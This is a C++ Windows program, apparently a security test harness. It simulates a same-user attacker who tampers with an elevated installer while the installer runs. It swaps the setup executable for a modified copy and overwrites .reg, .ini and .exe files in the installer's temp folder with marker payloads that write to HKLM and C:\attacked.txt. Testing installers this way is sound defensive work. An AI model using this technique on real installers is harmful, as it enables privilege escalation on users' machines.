// attacker: plays a program of the same user running beside an elevated setup run while its
// wizard waits. attacker.exe SETUP CHANGED_COPY TEMP_FOLDER
//  - renames SETUP away and puts CHANGED_COPY (same layout, other bytes) under its name;
//  - rewrites every registry script (.reg), component settings file (.ini) and program (.exe)
//    below TEMP_FOLDER: the script to import a key of its own into HKEY_LOCAL_MACHINE, the
//    settings to copy a component file to C:\attacked.txt, the program with bytes of its own.
// Prints one line per attempt: "<what> <path>: done" or "<what> <path>: refused <code>".
#include <cstdio>
#include <string>

#include <windows.h>
#include <shellapi.h>

namespace {

constexpr char kScript[] =
    "REGEDIT4\r\n\r\n[HKEY_LOCAL_MACHINE\\Software\\AttackCheck\\Attacker]\r\n\"Owned\"=\"yes\"\r\n";
constexpr char kSettings[] =
    "[RegistryList]\r\nRegtype=Copy\r\n[SysDirList]\r\nComp1.ini=C:\\attacked.txt\r\n";
constexpr char kProgram[] = "MZ attacker";

void Report(const char* what, const std::wstring& path, bool done) {
  const DWORD code = done ? 0 : GetLastError();
  char utf8[MAX_PATH * 4];
  WideCharToMultiByte(CP_UTF8, 0, path.c_str(), -1, utf8, sizeof utf8, nullptr, nullptr);
  if (done) {
    std::printf("%s %s: done\n", what, utf8);
  } else {
    std::printf("%s %s: refused %lu\n", what, utf8, code);
  }
  std::fflush(stdout);
}

bool Overwrite(const std::wstring& path, const char* bytes, DWORD size) {
  HANDLE file = CreateFileW(path.c_str(), GENERIC_WRITE,
                            FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                            TRUNCATE_EXISTING, 0, nullptr);
  if (file == INVALID_HANDLE_VALUE) return false;
  DWORD written = 0;
  const bool ok = WriteFile(file, bytes, size, &written, nullptr) && written == size;
  CloseHandle(file);
  return ok;
}

bool EndsWith(const std::wstring& name, const wchar_t* extension) {
  const size_t n = wcslen(extension);
  return name.size() > n && _wcsicmp(name.c_str() + name.size() - n, extension) == 0;
}

void RewriteBelow(const std::wstring& folder) {
  WIN32_FIND_DATAW found;
  HANDLE find = FindFirstFileW((folder + L"\\*").c_str(), &found);
  if (find == INVALID_HANDLE_VALUE) return;
  do {
    const std::wstring name = found.cFileName;
    if (name == L"." || name == L"..") continue;
    const std::wstring path = folder + L"\\" + name;
    if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) {
      RewriteBelow(path);
    } else if (EndsWith(name, L".reg")) {
      Report("write", path, Overwrite(path, kScript, sizeof kScript - 1));
    } else if (EndsWith(name, L".ini")) {
      Report("write", path, Overwrite(path, kSettings, sizeof kSettings - 1));
    } else if (EndsWith(name, L".exe")) {
      Report("write", path, Overwrite(path, kProgram, sizeof kProgram - 1));
    }
  } while (FindNextFileW(find, &found));
  FindClose(find);
}

}  // namespace

int main() {
  int argc = 0;
  wchar_t** argv = CommandLineToArgvW(GetCommandLineW(), &argc);
  if (!argv || argc != 4) {
    std::fprintf(stderr, "usage: attacker SETUP CHANGED_COPY TEMP_FOLDER\n");
    return 2;
  }
  const std::wstring setup = argv[1], changed = argv[2], temp = argv[3];
  const std::wstring away = setup + L".orig";
  const bool renamed = MoveFileW(setup.c_str(), away.c_str());
  Report("rename", setup, renamed);
  if (renamed) Report("replace", setup, CopyFileW(changed.c_str(), setup.c_str(), FALSE));
  RewriteBelow(temp);
  return 0;
}
